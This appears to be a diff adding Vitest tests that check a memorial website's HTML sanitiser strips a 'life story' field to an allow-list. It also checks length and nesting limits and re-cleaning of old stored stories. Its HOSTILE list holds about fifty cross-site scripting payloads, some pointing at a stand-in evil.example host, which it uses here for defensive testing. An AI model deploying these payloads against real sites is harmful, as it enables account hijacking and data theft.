@@ -1,0 +1,149 @@
+import type { Element, Root } from 'hast'
+import { fromHtml } from 'hast-util-from-html'
+import { eq } from 'drizzle-orm'
+import { expect, test } from 'vitest'
+import { memorials } from '#worker/features/memorials/memorials.table.ts'
+import { memorialOf, testCtx } from '../../../../test/worker/harness.ts'
+
+const TAGS = ['p', 'br', 'h2', 'h3', 'strong', 'em', 'u', 's', 'blockquote', 'ul', 'ol', 'li', 'a']
+
+function elementsOf(parent: Root | Element): Element[] {
+  return parent.children.flatMap((node) => (node.type === 'element' ? [node, ...elementsOf(node)] : []))
+}
+
+/** What stands in `html`, read as a browser would, that the allow-list does not have. */
+function outsideAllowList(html: string): string[] {
+  const tree = fromHtml(html, { fragment: true })
+  return elementsOf(tree).flatMap(({ tagName, properties }) => {
+    if (!TAGS.includes(tagName)) return [tagName]
+    return Object.entries(properties).flatMap(([name, value]) => {
+      if (tagName === 'a' && name === 'href' && /^(?:https?:\/\/|mailto:)/iu.test(String(value))) return []
+      if (tagName === 'a' && name === 'rel') return []
+      return [`${tagName} ${name}=${String(value)}`]
+    })
+  })
+}
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src=x/onerror=alert(1)//',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="&#x6A;avascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example/">x</a>',
+  '<a href="/api/auth/logout">x</a>',
+  '<a href="https:javascript:alert(1)">x</a>',
+  '<a href="blob:https://x/1">x</a>',
+  '<a href="https://a.example" onclick="alert(1)" style="position:fixed" target="_blank" download ping="//e">x</a>',
+  '<p style="background:url(javascript:alert(1))" class="x" id="root" name="body">x</p>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<base href="//evil.example/">',
+  '<link rel="stylesheet" href="//evil.example/x.css">',
+  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<video><source onerror="alert(1)"></video><audio src onerror=alert(1)>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<body onload=alert(1)><html onmouseover=alert(1)>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
+  '<p><strong onpointerenter=alert(1)>x</p></strong><b><i>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+]
+
+test.each(HOSTILE)('nothing outside the allow-list is stored: %s', async (payload) => {
+  const { owner, memorial } = await memorialOf()
+  const { status, body } = await owner.patch(`/api/memorials/${memorial.id}`, {
+    lifeStory: `<p>Before</p>${payload}<p>After</p>`,
+  })
+  expect(status).toBe(200)
+  expect(body.lifeStory).toContain('Before')
+  expect(outsideAllowList(body.lifeStory)).toEqual([])
+  expect((await owner.get(`/api/memorials/${memorial.id}`)).body.memorial.lifeStory).toBe(body.lifeStory)
+})
+
+test('what families write is kept as it is', async () => {
+  const { owner, memorial } = await memorialOf()
+  const kept =
+    '<h2>Growing up</h2><p>Born in <strong>Mutare</strong>, <em>loved</em> <u>music</u> &#x26; <s>maths</s>.<br>Two lines</p>' +
+    '<h3>Family</h3><blockquote><p>Mhuri yese</p></blockquote><ul><li><p>Rudo</p></li></ul><ol><li>Farai 😀</li></ol>'
+  const { body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory: kept })
+  expect(body.lifeStory).toBe(kept)
+})
+
+test('bold and italics of word processors become strong and em, and links are made harmless', async () => {
+  const { owner, memorial } = await memorialOf()
+  const { body } = await owner.patch(`/api/memorials/${memorial.id}`, {
+    lifeStory:
+      '<p><b>a</b><i>b</i><a href="https://a.example/?x=1&amp;y=2" rel="opener" target="_blank">c</a><a href="mailto:rudo@family.test">d</a></p>',
+  })
+  expect(body.lifeStory).toBe(
+    '<p><strong>a</strong><em>b</em><a href="https://a.example/?x=1&#x26;y=2" rel="noopener nofollow ugc">c</a>' +
+      '<a href="mailto:rudo@family.test" rel="noopener nofollow ugc">d</a></p>',
+  )
+})
+
+test.each(['', '<p></p>', '<p> <br></p>', '<script>x</script>'])(
+  'a story without text is no story: %j',
+  async (lifeStory) => {
+    const { owner, memorial } = await memorialOf()
+    const { body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })
+    expect(body.lifeStory).toBeNull()
+  },
+)
+
+test.each([
+  ['50,001 characters of text', `<p>${'ä'.repeat(50_001)}</p>`],
+  ['100,001 characters in all', `<p>x</p>${' '.repeat(100_001)}`],
+  ['33 levels', `${'<blockquote>'.repeat(33)}x`],
+  ['thousands of levels', `${'<blockquote>'.repeat(8000)}x`],
+])('a story with %s is refused, and what was stored stays', async (_what, lifeStory) => {
+  const { owner, memorial } = await memorialOf()
+  await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory: '<p>Kept</p>' })
+  const { status, body } = await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })
+  expect([status, Object.keys(body.fields)]).toEqual([400, ['lifeStory']])
+  expect((await owner.get(`/api/memorials/${memorial.id}`)).body.memorial.lifeStory).toBe('<p>Kept</p>')
+})
+
+test('exactly 50,000 characters of text and 32 levels are accepted', async () => {
+  const { owner, memorial } = await memorialOf()
+  for (const lifeStory of [`<p>${'ä'.repeat(50_000)}</p>`, `${'<blockquote>'.repeat(31)}<p>x`]) {
+    expect((await owner.patch(`/api/memorials/${memorial.id}`, { lifeStory })).status).toBe(200)
+  }
+})
+
+test('a story that an older sanitiser stored is cleaned again when it is read', async () => {
+  const { owner, memorial } = await memorialOf()
+  await testCtx()
+    .db.update(memorials)
+    .set({ lifeStory: '<p onclick="alert(1)">x<img src=y></p>', lifeStoryVersion: 0 })
+    .where(eq(memorials.id, memorial.id))
+  expect((await owner.get(`/api/memorials/${memorial.id}`)).body.memorial.lifeStory).toBe('<p>x</p>')
+  expect((await owner.get('/api/dashboard')).body.memorials[0].lifeStory).toBe('<p>x</p>')
+})
